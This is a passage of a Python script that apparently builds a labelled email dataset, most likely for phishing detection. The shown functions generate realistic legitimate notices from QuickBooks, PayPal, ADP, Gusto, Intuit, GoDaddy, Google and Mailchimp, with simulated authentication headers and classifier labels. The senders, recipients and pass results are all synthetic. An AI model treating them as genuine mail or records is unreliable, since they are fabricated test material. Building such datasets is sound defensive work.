                    "16ga tie wire (12 coils) ................................. 201.00", "Delivery ................................................ 125.00",
                    "Sales tax 8.75% ................................................ 589.63", "TOTAL DUE ....................................... 8,426.13"],
                   "Invoice 24-1187", "QuickBooks Online", date="D:20250304164012Z")
    data = quickbooks_send(r, c, rcpt, t, "Valley Rebar Supply, Inc.", "ar@valleyrebarsupply.com",
                           "Invoice 24-1187 from Valley Rebar Supply, Inc.", html, pdf, "Invoice_24-1187_from_Valley_Rebar_Supply_Inc.pdf")
    return done("bulk", kind, slug,
                "Real QuickBooks Online invoice from the contractor's regular rebar supplier, sent by notification.intuit.com with "
                "the supplier's own note, a connect.intuit.com pay link and the PDF invoice.",
                data)


@sample
def legit_paypal_invoice():
    kind, slug = "bulk", "paypal-invoice-freelance-photographer-foxglove"
    r = S(kind, slug)
    c = CLIENTS["foxglove"]
    t = T(2025, 5, 19, 11, 7, 44)
    rcpt = "beth.morgan@foxglovecreative.co.uk"
    inv = f"INV2-{r.ALNUM('i1', 4)}-{r.ALNUM('i2', 4)}-{r.ALNUM('i3', 4)}-{r.ALNUM('i4', 4)}"
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('INV2-', '').replace('-', '')}"
    inner = f"""<tr><td style="padding:0 32px;font-size:15px">Hello Beth Morgan,</td></tr>
<tr><td style="padding:12px 32px;font-size:28px;line-height:36px;font-weight:500">Leah Brightman Photography sent you an invoice for &pound;1,250.00 GBP</td></tr>
<tr><td style="padding:8px 32px;font-size:15px;line-height:22px">Due on receipt.<br><br><b>Note from seller</b><br>Hi Beth &#8211; invoice for the Peak District Distillery product shoot (2 days, 14/15 May) incl. retouching of 40 selects. Galleries are on the usual Pixieset link. Thanks! Leah</td></tr>
<tr><td style="padding:16px 32px 24px 32px"><a href="{link}" style="background:#003087;color:#ffffff;text-decoration:none;font-size:16px;font-weight:600;padding:12px 36px;border-radius:24px;display:inline-block">View and Pay Invoice</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:13px;color:#545d68">Invoice number: 0042<br>Invoice ID: {inv}<br>Seller: Leah Brightman Photography (hello@leahbrightman.co.uk)</td></tr>"""
    html = paypal_frame(inner, rcpt, "PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg",
                        "IV000131:en_GB(en-GB)")
    data = paypal_send(r, c, rcpt, t, "Invoice from Leah Brightman Photography (0042)", html, "IV000131", domain="paypal.co.uk")
    return done("bulk", kind, slug,
                "Genuine PayPal invoice from paypal.co.uk (DMARC reject passes) from the agency's regular freelance photographer, "
                "addressed by full name, with her job note and a paypal.com invoice link.",
                data)


@sample
def legit_adp_pay_statement():
    kind, slug = "bulk", "adp-pay-statement-available-hillcrest"
    r = S(kind, slug)
    c = CLIENTS["hillcrest"]
    t = T(2025, 3, 14, 11, 2, 17)
    rcpt = "awells@hillcrestmontessori.org"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;padding:0;background:#f5f5f5">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f5f5f5"><tr><td align="center" style="padding:20px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;color:#333333">
<tr><td style="padding:20px 30px;border-bottom:4px solid #d0271d"><img src="https://www.adp.com/-/media/adp/redesign2018/ui/logo-adp-fy19.svg" width="70" alt="ADP"></td></tr>
<tr><td style="padding:28px 30px 8px 30px;font-size:20px">Your pay statement is ready</td></tr>
<tr><td style="padding:8px 30px;font-size:14px;line-height:21px">Hi Aaron,<br><br>Your pay statement for the pay date <b>03/14/2025</b> from <b>Hillcrest Montessori School</b> is now available.<br><br>
To view it, log in to MyADP at <b>my.adp.com</b> or open the ADP Mobile Solutions app. For your security, pay details are not included in this email.</td></tr>
<tr><td style="padding:20px 30px 28px 30px;font-size:12px;color:#777777;line-height:18px">This is an automated message from ADP. Please do not reply. If you have questions about your pay, contact your employer's payroll administrator.<br><br>
ADP will never ask you to provide your password, or your bank account information by email. <a href="https://www.adp.com/about-adp/data-security/alerts.aspx" style="color:#777777">Learn about phishing alerts</a>.<br><br>
ADP, Inc., One ADP Boulevard, Roseland, NJ 07068. ADP and the ADP logo are registered trademarks of ADP, Inc. Copyright &copy; 2025 ADP, Inc. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", f"----=_Part_{r.num('p', 1000000, 9999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    ip = f"170.146.{r.num('c3', 220, 223)}.{r.num('c4', 10, 250)}"
    helo = f"mailout{r.num('mo', 1, 8)}.adp.com"
    sender = [dkim(r, "adp.com", "adpsmtp2024", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", t, "generic"),
              f"Received: from notif-app{r.num('na', 10, 99)}.es.ad.adp.com ([10.{r.num('x', 10, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}])\n\tby {helo} with ESMTP; {format_datetime(t.astimezone(ZoneInfo('America/New_York')))}"]
    headers = [f"Date: {format_datetime(t.astimezone(ZoneInfo('America/New_York')))}", "From: ADP <SecurityServices_NoReply@adp.com>",
               f"To: {rcpt}", "Subject: Your pay statement is ready", f"Message-ID: <{r.num('m', 10**9, 10**10 - 1)}.{r.num('m2', 10**5, 10**6 - 1)}.{int(t.timestamp() * 1000)}@notif-app.adp.com>",
               "MIME-Version: 1.0", "X-ADP-Notification-Type: PAYSTMT_AVAIL"]
    a = AU(f"SecurityServices_NoReply@adp.com", ip, "pass", [("adp.com", "adpsmtp2024", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="adp.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=4), helo, ip, a, sender, headers, body, verdict=dict(bcl=2), ptr=helo)
    return done("bulk", kind, slug,
                "Real ADP pay-statement notice from adp.com (DMARC reject passes) that deliberately contains no link or pay "
                "details and tells the teacher to log in to MyADP himself.",
                data)


@sample
def legit_gusto_bank_change():
    kind, slug = "bulk", "gusto-employee-bank-account-updated-pinegate"
    r = S(kind, slug)
    c = CLIENTS["pinegate"]
    t = T(2024, 12, 3, 20, 15, 42)
    rcpt = "dpruitt@pinegaterealty.com"
    link = f"https://app.gusto.com/companies/{r.num('co', 10**15, 10**16 - 1)}/employees/{r.num('ee', 10**15, 10**16 - 1)}/payment"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f8f5f2"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f8f5f2"><tr><td align="center" style="padding:32px 12px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;font-family:'Gusto Sans',Helvetica,Arial,sans-serif;color:#1c1c1c">
<tr><td style="padding:28px 32px 8px 32px"><img src="https://gusto-assets.s3.amazonaws.com/email/gusto-logo-guava.png" width="78" alt="Gusto"></td></tr>
<tr><td style="padding:12px 32px;font-size:22px;font-weight:bold">Kristen Moody updated their bank account</td></tr>
<tr><td style="padding:8px 32px;font-size:15px;line-height:23px">Hi Dana,<br><br>We're letting you know that <b>Kristen Moody</b> changed the bank account used for direct deposit on <b>December 3, 2024</b>. The new account ends in <b>&bull;&bull;&bull;&bull;4471</b> and will be used starting with the next payroll.<br><br>
If you or Kristen didn't expect this change, review it now. Scammers sometimes pose as employees and ask admins to change deposit details &#8212; when in doubt, confirm in person or by phone.</td></tr>
<tr><td style="padding:20px 32px"><a href="{link}" style="background:#0a8080;color:#ffffff;text-decoration:none;padding:11px 22px;border-radius:6px;font-size:15px;font-weight:bold">Review payment details</a></td></tr>
<tr><td style="padding:20px 32px 28px 32px;font-size:12px;color:#6c6c72;line-height:18px;border-top:1px solid #eee">You're receiving this email because you're a payroll admin for Pinegate Realty Group on Gusto.<br>Gusto, 525 20th St, San Francisco, CA 94107</td></tr>
</table></td></tr></table></body></html>
"""
    lines, helo, ip, msgid = sendgrid_lines(r, t, "gusto.com", "s1")
    body = Multi("alternative", r.hex("sgb", 60), [text(strip_tags(html)), text(html, "html")])
    headers = [f"Date: {format_datetime(t.astimezone(UTC))[:-6]} +0000 (UTC)", "From: Gusto <no-reply@gusto.com>",
               "Mime-Version: 1.0", f"Message-ID: {msgid}", "Subject: Kristen Moody updated their bank account",
               f"X-Feedback-ID: {r.num('fb', 1000000, 9999999)}:SG", f"To: Dana Pruitt <{rcpt}>"] + sendgrid_after(r)
    a = AU(f"bounces+{r.num('bn', 1000000, 9999999)}-{r.hex('bh', 4)}-dpruitt=pinegaterealty.com@em.gusto.com", ip, "pass",
           [("gusto.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "p=REJECT sp=REJECT dis=NONE", from_dom="gusto.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, lines, headers, body, verdict=dict(bcl=1))
    return done("bulk", kind, slug,
                "Genuine Gusto admin alert from gusto.com via SendGrid (DMARC reject passes) that an employee changed her direct "
                "deposit account, with an app.gusto.com review link and an anti-fraud reminder.",
                data)


@sample
def legit_proconnect_efile_ack():
    kind, slug = "bulk", "proconnect-irs-efile-accepted-mendell"
    r = S(kind, slug)
    c = CLIENTS["mendell"]
    t = T(2025, 2, 14, 18, 22, 6)
    rcpt = "gokafor@mendellokafor.com"
    subm = f"{r.num('efin', 100000, 999999)}2025045{r.ALNUM('sid', 7).lower()}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#393a3d">
<table width="620" cellpadding="0" cellspacing="0"><tr><td style="padding:16px 0;font-size:18px;font-weight:bold;color:#0077c5">Intuit ProConnect Tax</td></tr>
<tr><td style="padding:8px 0">Hello Grace,</td></tr>
<tr><td style="padding:8px 0">The following e-filed returns have a new status from the IRS or a state agency:</td></tr>
<tr><td style="padding:8px 0"><table cellpadding="6" cellspacing="0" style="border-collapse:collapse;font-size:13px" width="100%">
<tr style="background:#eceef1"><th align="left">Client</th><th align="left">Return</th><th align="left">Agency</th><th align="left">Status</th><th align="left">Date</th></tr>
<tr><td style="border-bottom:1px solid #ddd">HALVORSEN, ERIK &amp; JUNE</td><td style="border-bottom:1px solid #ddd">1040</td><td style="border-bottom:1px solid #ddd">Federal</td><td style="border-bottom:1px solid #ddd;color:#2ca01c">Accepted</td><td style="border-bottom:1px solid #ddd">02/14/2025</td></tr>
<tr><td style="border-bottom:1px solid #ddd">HALVORSEN, ERIK &amp; JUNE</td><td style="border-bottom:1px solid #ddd">IT-1040</td><td style="border-bottom:1px solid #ddd">Ohio</td><td style="border-bottom:1px solid #ddd;color:#2ca01c">Accepted</td><td style="border-bottom:1px solid #ddd">02/14/2025</td></tr>
<tr><td style="border-bottom:1px solid #ddd">BRIGHTLINE HVAC LLC</td><td style="border-bottom:1px solid #ddd">1065</td><td style="border-bottom:1px solid #ddd">Federal</td><td style="border-bottom:1px solid #ddd;color:#d52b1e">Rejected (F1065-012)</td><td style="border-bottom:1px solid #ddd">02/14/2025</td></tr>
</table></td></tr>
<tr><td style="padding:12px 0">Submission ID (first return): {subm}</td></tr>
<tr><td style="padding:8px 0">To see details and correct rejected returns, sign in to ProConnect Tax and open <b>E-File Status</b>: <a href="https://proconnect.intuit.com/tax/efile-center" style="color:#0077c5">proconnect.intuit.com</a></td></tr>
<tr><td style="padding:16px 0;font-size:11px;color:#8d9096">You are receiving this email because e-file status notifications are turned on for firm Mendell &amp; Okafor CPAs (EFIN on file). Manage notifications in Settings &gt; E-file. Intuit, 2700 Coast Avenue, Mountain View, CA 94043. &copy; 2025 Intuit Inc.</td></tr>
</table></body></html>
"""
    lines, helo, ip, msgid, after, pref = ses_lines(r, t, [("intuit.com", "sesintuit2")])
    body = Multi("alternative", f"----=_Part_{r.num('p', 100000, 999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    headers = ["From: Intuit ProConnect <do_not_reply@intuit.com>", f"To: {rcpt}",
               "Subject: E-file status update: 2 accepted, 1 rejected", "MIME-Version: 1.0", f"Message-ID: {msgid}",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}"] + after
    a = AU(f"{pref}-{r.guid('rp')}-000000@bounce.intuit.com", ip, "pass",
           [("intuit.com", "sesintuit2", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="intuit.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=1), helo, ip, a, lines, headers, body, verdict=dict(bcl=1))
    return done("bulk", kind, slug,
                "Real e-file status digest from the practice's tax software (Intuit ProConnect via Amazon SES, intuit.com DMARC "
                "pass) listing IRS and Ohio acceptances and a rejection, linking only to proconnect.intuit.com.",
                data)


@sample
def legit_godaddy_renewal():
    kind, slug = "bulk", "godaddy-renewal-notice-summit"
    r = S(kind, slug)
    c = CLIENTS["summit"]
    t = T(2025, 1, 6, 15, 30, 12)
    rcpt = "bkeller@summitcresttitle.com"
    qs = r.hex("qs", 96)
    click = f"https://click.e.godaddy.com/?qs={qs}"
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;background:#ffffff">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center"><table width="600" cellpadding="0" cellspacing="0" style="font-family:'gdsherpa',Helvetica,Arial,sans-serif;color:#111111">
<tr><td style="padding:24px 30px;background:#111111"><img src="https://img1.wsimg.com/cdn/Image/All/Email/1/en-US/godaddy-logo-white.png" width="130" alt="GoDaddy"></td></tr>
<tr><td style="padding:28px 30px 8px 30px;font-size:24px;font-weight:bold">Your products will renew soon.</td></tr>
<tr><td style="padding:8px 30px;font-size:15px;line-height:22px">Hi Brad,<br><br>Your products are set to automatically renew on <b>February 3, 2025</b>. No action is needed &#8212; we'll charge the payment method on file (Visa ending in 2209).</td></tr>
<tr><td style="padding:16px 30px"><table width="100%" cellpadding="8" cellspacing="0" style="font-size:14px;border-top:1px solid #d4dbe0;border-bottom:1px solid #d4dbe0">
<tr><td>summitcresttitle.com<br><span style="color:#767676;font-size:12px">.COM Domain Name Registration - 1 Year</span></td><td align="right">$22.99</td></tr>
<tr><td>Full Domain Privacy and Protection<br><span style="color:#767676;font-size:12px">summitcresttitle.com - 1 Year</span></td><td align="right">$19.99</td></tr>
<tr><td><b>Estimated total</b> <span style="color:#767676;font-size:12px">(before tax)</span></td><td align="right"><b>$42.98</b></td></tr></table></td></tr>
<tr><td style="padding:16px 30px"><a href="{click}" style="background:#111111;color:#ffffff;text-decoration:none;padding:12px 28px;border-radius:4px;font-weight:bold">Manage Renewals</a></td></tr>
<tr><td style="padding:20px 30px;font-size:12px;color:#595959;line-height:18px">Customer number: {r.num('cn', 10**8, 10**9 - 1)}<br>Renewal prices are subject to change. You can turn off auto-renew at any time in your account.<br><br>
<a href="https://click.e.godaddy.com/?qs={r.hex('qs2', 96)}" style="color:#595959">Privacy Policy</a> | <a href="https://click.e.godaddy.com/?qs={r.hex('qs3', 96)}" style="color:#595959">Account Settings</a><br>
Copyright &copy; 1999-2025 GoDaddy Operating Company, LLC. 100 S. Mill Ave, Suite 1600, Tempe, AZ 85281, USA. All rights reserved.</td></tr>
</table></td></tr></table><img src="https://click.e.godaddy.com/open.aspx?ffcb10-{r.hex('op', 16)}-{r.hex('op2', 16)}" width="1" height="1" alt=""></body></html>
"""
    body = Multi("alternative", f"----=_Part_{r.num('p', 1000000, 9999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    ip = f"13.111.{r.num('c3', 16, 31)}.{r.num('c4', 10, 250)}"
    helo = f"mta{r.num('mta', 1, 9)}.e.godaddy.com"
    sender = [dkim(r, "e.godaddy.com", "200608", "From:To:Subject:Date:List-Unsubscribe:List-Unsubscribe-Post:MIME-Version:Reply-To:Message-ID:Content-Type", t, "generic"),
              dkim(r, "s10.y.mc.salesforce.com", "fbldkim10", "From:To:Subject:Date:List-Unsubscribe:List-Unsubscribe-Post:MIME-Version:Reply-To:Message-ID:Content-Type", t, "generic", label="sf")]
    headers = [f"From: GoDaddy <renewals@godaddy.com>", f"To: <{rcpt}>", "Subject: Your products are set to renew soon.",
               f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Phoenix')))}",
               f"List-Unsubscribe: <https://click.e.godaddy.com/subscription_center.aspx?jwt={r.b64url('jwt', 60)}>, <mailto:leave-{r.hex('lv', 40)}@e.godaddy.com>",
               "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "MIME-Version: 1.0", "Reply-To: GoDaddy <reply-fe{r}@e.godaddy.com>".replace("{r}", r.hex("rt", 20)),
               f"x-job: {r.num('job', 1000000, 9999999)}_{r.num('job2', 1000000, 9999999)}",
               f"Message-ID: <{r.guid('sfmc')}@atl1s07mta{r.num('mta', 1, 9)}.xt.local>", "X-SFMC-Stack: 10"]
    a = AU(f"bounce-{r.num('b1', 100, 999)}_HTML-{r.num('b2', 10**8, 10**9 - 1)}-{r.num('b3', 10**5, 10**6 - 1)}-{r.num('b4', 1000, 9999)}-0@bounce.e.godaddy.com",
           ip, "pass", [("e.godaddy.com", "200608", "pass"), ("s10.y.mc.salesforce.com", "fbldkim10", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="godaddy.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body, verdict=dict(bcl=4), ptr=helo)
    return done("bulk", kind, slug,
                "Genuine GoDaddy auto-renewal reminder sent through Salesforce Marketing Cloud (e.godaddy.com DKIM, godaddy.com "
                "DMARC pass) listing the domain and privacy renewal with click.e.godaddy.com tracking links; no urgency.",
                data)


# =========================================================================== legitimate: shares, invites, newsletters, notices

@sample
def legit_drive_share_colleague():
    kind, slug = "bulk", "google-sheets-share-colleague-oakmere"
    r = S(kind, slug)
    c = CLIENTS["oakmere"]
    t = T(2025, 4, 29, 15, 40, 3)
    rcpt = "lucy.fenwick@oakmereprep.co.uk"
    sid = "1" + r.mixed("sid", 43)
    link = f"https://docs.google.com/spreadsheets/d/{sid}/edit?usp=sharing_eil_se_dm&amp;ts={r.hex('ts', 8)}"
    html = f"""<!doctype html><html lang="en"><head><meta charset="utf-8"></head>
<body style="margin:0;padding:0"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 12px">
<table role="presentation" width="100%" style="max-width:516px;font-family:'Google Sans',Roboto,Arial,sans-serif;color:#3c4043" cellpadding="0" cellspacing="0">
<tr><td style="padding-bottom:20px"><img src="https://ssl.gstatic.com/docs/doclist/images/mediatype/icon_1_spreadsheet_x64.png" width="40" height="40" alt="Logo for Google Sheets"></td></tr>
<tr><td style="font-size:24px;line-height:32px;color:#202124;padding-bottom:20px">Ben Ashworth shared a spreadsheet</td></tr>
<tr><td style="font-size:14px;line-height:20px;padding-bottom:20px">Ben Ashworth (<a href="mailto:ben.ashworth@oakmereprep.co.uk" style="color:#1a73e8;text-decoration:none">ben.ashworth@oakmereprep.co.uk</a>) has invited you to <b>edit</b> the following spreadsheet:</td></tr>
<tr><td style="padding-bottom:20px"><table role="presentation" width="100%" style="border:1px solid #dadce0;border-radius:8px"><tr><td style="padding:12px 16px"><a href="{link}" style="color:#3c4043;text-decoration:none;font-size:14px;font-weight:500">Y6 Robinwood residential &#8211; consent &amp; medical tracker</a></td></tr></table></td></tr>
<tr><td style="padding:0 0 20px 0;font-size:14px;line-height:20px;background:#f8f9fa;border-radius:8px"><div style="padding:12px 16px">Lucy &#8211; here's the tracker. Could you add the three late consent forms that came in to the office today? Medical column is locked to me and Mrs Dobson. Thanks, Ben</div></td></tr>
<tr><td style="padding-bottom:32px"><a href="{link}" style="background-color:#0b57d0;color:#ffffff;border-radius:100px;padding:10px 24px;font-size:14px;font-weight:500;text-decoration:none;display:inline-block">Open</a></td></tr>
<tr><td style="font-size:12px;line-height:16px;color:#5f6368;border-top:1px solid #dadce0;padding-top:20px">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because <a href="mailto:ben.ashworth@oakmereprep.co.uk" style="color:#1a73e8;text-decoration:none">ben.ashworth@oakmereprep.co.uk</a> shared a spreadsheet with you from Google Sheets.</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", gboundary(r, "b"), [text(strip_tags(html).replace("\nOpen\n", f"\nOpen: {link.replace('&amp;', '&')}\n")), text(html, "html")])
    headers = ["Reply-To: Ben Ashworth <ben.ashworth@oakmereprep.co.uk>", f"X-Google-Id: {r.num('gid', 100000, 999999)}",
               f"Message-ID: <{r.b64url('mid', 16)}.0@notifications.google.com>",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               "Subject: Spreadsheet shared with you: \"Y6 Robinwood residential - consent & medical tracker\"",
               "From: \"Ben Ashworth (via Google Sheets)\" <drive-shares-dm-noreply@google.com>", f"To: {rcpt}"]
    data = google_notice(r, c, rcpt, t, "doclist.bounces.google.com", headers, body)
    return done("bulk", kind, slug,
                "Real Google Sheets share notification between two teachers at the same Workspace school, with the colleague's "
                "note and a docs.google.com edit link.",
                data)


@sample
def legit_calendar_invite_deanery():
    kind, slug = "legit", "google-calendar-invite-deanery-synod-aldhelm"
    r = S(kind, slug)
    c = CLIENTS["aldhelm"]
    t = T(2025, 1, 20, 17, 12, 48)
    rcpt = "catherine.moss@staldhelms.org.uk"
    org = "mark.tilley@sarumdeanery.org.uk"
    eid = r.alnum("eid", 26)
    start = datetime(2025, 2, 11, 19, 30, tzinfo=UTC)
    desc = ("Agenda: Lent course resources for the deanery\\, parish share update\\, safeguarding training dates.\\n\\nSt Thomas' "
            "parish room\\, St Thomas's Square. Parking in Salt Lane car park after 6pm. Tea from 7:15.\\n\\nMark")
    ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nCALSCALE:GREGORIAN\r\nMETHOD:REQUEST\r\n"
           "BEGIN:VTIMEZONE\r\nTZID:Europe/London\r\nX-LIC-LOCATION:Europe/London\r\nBEGIN:STANDARD\r\nTZOFFSETFROM:+0000\r\n"
           "TZOFFSETTO:+0000\r\nTZNAME:GMT\r\nDTSTART:19700101T000000\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\nBEGIN:VEVENT\r\n"
           f"DTSTART;TZID=Europe/London:20250211T193000\r\nDTEND;TZID=Europe/London:20250211T210000\r\nDTSTAMP:{t:%Y%m%dT%H%M%SZ}\r\n"
           f"ORGANIZER;CN=Mark Tilley:mailto:{org}\r\nUID:{r.alnum('uid', 26)}@google.com\r\n"
           f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=\r\n TRUE;CN=Catherine Moss;X-NUM-GUESTS=0:mailto:{rcpt}\r\n"
           f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE\r\n ;CN=Mark Tilley;X-NUM-GUESTS=0:mailto:{org}\r\n"
           f"CREATED:{t:%Y%m%dT%H%M%SZ}\r\nDESCRIPTION:{desc}\r\nLAST-MODIFIED:{t:%Y%m%dT%H%M%SZ}\r\n"
           "LOCATION:St Thomas' Parish Room\\, St Thomas's Square\\, Salisbury SP1 1BA\r\nSEQUENCE:0\r\nSTATUS:CONFIRMED\r\n"
           "SUMMARY:Deanery Synod - Standing Committee\r\nTRANSP:OPAQUE\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    folded = []
    for ln in ics.split("\r\n"):
        while len(ln) > 75:
            folded.append(ln[:75])
            ln = " " + ln[75:]
        folded.append(ln)
    ics = "\r\n".join(folded)
    _ = start
    tok = r.b64url("tok", 40)
    desc_html = desc.replace("\\n", "<br>").replace("\\,", ",")
    base = f"https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;tok={tok}&amp;ctz=Europe%2FLondon&amp;hl=en_GB&amp;es=1"
    html = f"""<div style=""><table cellspacing="0" cellpadding="8" border="0" summary="" style="width:100%;font-family:Arial,Sans-serif;border:1px Solid #ccc;border-width:1px 2px 2px 1px;background-color:#fff;"><tr><td>
<div style="padding:2px"><span itemprop="name" style="font-size:20px;color:#222">Deanery Synod - Standing Committee</span></div>
<p style="color:#222">{desc_html}</p>
<table cellpadding="0" cellspacing="0" border="0" summary="Event details"><tr><td style="padding:0 1em 10px 0;font-size:13px;color:#888" valign="top">When</td><td style="padding-bottom:10px;font-size:13px;color:#222" valign="top">Tuesday 11 Feb 2025 &#8901; 19:30 &#8211; 21:00 (Greenwich Mean Time - London)</td></tr>
<tr><td style="padding:0 1em 10px 0;font-size:13px;color:#888" valign="top">Location</td><td style="padding-bottom:10px;font-size:13px;color:#222" valign="top"><a href="https://www.google.com/maps/search/St+Thomas'+Parish+Room,+St+Thomas's+Square,+Salisbury+SP1+1BA?hl=en-GB" style="color:#20c">St Thomas' Parish Room, St Thomas's Square, Salisbury SP1 1BA</a></td></tr>
<tr><td style="padding:0 1em 10px 0;font-size:13px;color:#888" valign="top">Guests</td><td style="padding-bottom:10px;font-size:13px;color:#222" valign="top"><div><a href="mailto:{org}" style="color:#20c">Mark Tilley</a> - organiser</div><div><a href="mailto:{rcpt}" style="color:#20c">Catherine Moss</a></div></td></tr></table>
<p style="color:#222">Reply for <b>{rcpt}</b>: <a href="{base}&amp;rst=1">Yes</a> - <a href="{base}&amp;rst=2">No</a> - <a href="{base}&amp;rst=3">Maybe</a></p>
<p style="color:#888;font-size:11px">Invitation from <a href="https://calendar.google.com/calendar/" style="color:#888">Google Calendar</a><br>You are receiving this email because you are an attendee on the event.</p>
</td></tr></table></div>
"""
    body = Multi("mixed", gboundary(r, "mx"), [
        Multi("alternative", gboundary(r, "al"), [text(strip_tags(html)), text(html, "html"),
                                                  Leaf("text/calendar", ics.encode(), "7bit", '; charset="UTF-8"; method=REQUEST')]),
        Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"')])
    headers = [f"Reply-To: Mark Tilley <{org}>", "Sender: Google Calendar <calendar-notification@google.com>",
               f"Message-ID: <calendar-{r.guid('cal')}@google.com>", f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               f"Subject: Invitation: Deanery Synod - Standing Committee @ Tue 11 Feb 2025 19:30 - 21:00 (GMT) ({rcpt})",
               f"From: Mark Tilley <{org}>", f"To: {rcpt}"]
    data = google_notice(r, c, rcpt, t, "calendar-server.bounces.google.com", headers, body, extra_dkim="sarumdeanery.org.uk",
                         from_dom="sarumdeanery.org.uk", extra_sel="google", policy="p=NONE sp=NONE dis=NONE")
    return done("clean", kind, slug,
                "Google Calendar invitation from the deanery's Workspace account to the vicar (Microsoft 365), with the agenda, "
                "location, RSVP links and the .ics, signed by the deanery's domain and by Google.",
                data)


@sample
def legit_mailchimp_church_newsletter():
    kind, slug = "bulk", "mailchimp-church-weekly-newsletter-grace"
    r = S(kind, slug)
    c = CLIENTS["grace"]
    t = T(2024, 11, 29, 14, 0, 37)
    rcpt = "sherry@gracefellowshipfranklin.org"
    u, lid = r.hex("u", 25), r.hex("lid", 10)
    e = r.hex("e", 10)
    cid = r.hex("cid", 10)

    def trk(label):
        return f"https://gracefellowshipfranklin.us21.list-manage.com/track/click?u={u}&amp;id={r.hex(label, 10)}&amp;e={e}"
    html = f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta charset="UTF-8"><meta http-equiv="X-UA-Compatible" content="IE=edge"><meta name="viewport" content="width=device-width, initial-scale=1"><title>This Week at Grace</title></head>
<body style="height:100%;margin:0;padding:0;width:100%;background-color:#f4efe6">
<!--*|IF:MC_PREVIEW_TEXT|*--><span class="mcnPreviewText" style="display:none !important;">Advent begins Sunday, Angel Tree tags, and the Christmas Eve service schedule</span><!--*|END:IF|*-->
<center><table align="center" border="0" cellpadding="0" cellspacing="0" height="100%" width="100%" id="bodyTable"><tr><td align="center" valign="top" id="bodyCell" style="padding:10px">
<table border="0" cellpadding="0" cellspacing="0" width="600" class="templateContainer" style="background:#ffffff;font-family:Georgia,serif;color:#3b3227">
<tr><td style="padding:24px;text-align:center"><img src="https://mcusercontent.com/{u}/images/{r.guid('img')}.png" width="200" alt="Grace Fellowship Church"></td></tr>
<tr><td style="padding:0 28px;font-size:26px;text-align:center">This Week at Grace</td></tr>
<tr><td style="padding:16px 28px;font-size:16px;line-height:25px">
<p><b>Advent begins this Sunday.</b> Join us at 9:00 and 10:45 as we light the first candle of Advent. Pastor Mike begins our series <i>Waiting in Hope</i> from Isaiah 9.</p>
<p><b>Angel Tree.</b> Tags for the children of Williamson County families are on the tree in the atrium through December 8. Please return wrapped gifts with the tag attached. <a href="{trk('l1')}" style="color:#8a5a2b">Sign up to help deliver gifts</a>.</p>
<p><b>Christmas Eve.</b> Candlelight services at 4:00, 5:30 and 11:00 PM. Nursery available at the 4:00 and 5:30 services.</p>
<p><b>Year-end giving.</b> Gifts postmarked or given online by December 31 count toward your 2024 giving statement. <a href="{trk('l2')}" style="color:#8a5a2b">Give online through Church Center</a>.</p>
<p><b>A note from the office:</b> Pastor Mike will never email or text you asking for gift cards or money. If you receive a message like that in his name, please don't reply &#8211; forward it to office@gracefellowshipfranklin.org.</p>
</td></tr>
